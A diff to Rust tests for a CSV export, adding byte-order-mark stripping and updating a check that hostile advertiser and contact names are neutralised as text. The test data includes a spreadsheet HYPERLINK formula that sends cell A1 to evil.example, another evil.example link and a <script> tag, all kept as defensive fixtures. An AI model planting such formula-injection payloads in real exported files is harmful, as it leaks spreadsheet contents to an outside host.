@@ -38,6 +38,10 @@ fn report(path: &Path) -> FileReport {
 
 /// Every record of a CSV export, header first.
 fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    // UTF-8 said first, for spreadsheets.
+    let text = text
+        .strip_prefix('\u{feff}')
+        .expect("a CSV export starts with a BOM");
     csv::ReaderBuilder::new()
         .has_headers(false)
         .from_reader(text.as_bytes())
@@ -257,9 +261,12 @@ fn hostile_advertiser_and_contact_names_come_out_as_text() {
             }
         }
         // The names are kept, only made inert: `'=HYPERLINK(…)`, the markup as written.
-        assert!(
-            names.contains(&"'=HYPERLINK(\"http://evil.example\",\"x\")") || kind == "advertiser"
-        );
+        let hyperlink = if kind == "advertiser" {
+            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")"
+        } else {
+            "'=HYPERLINK(\"http://evil.example\",\"x\")"
+        };
+        assert!(names.contains(&hyperlink), "{name}: {names:?}");
         assert!(names.iter().any(|n| n.starts_with("<script>")), "{name}");
     }
 }
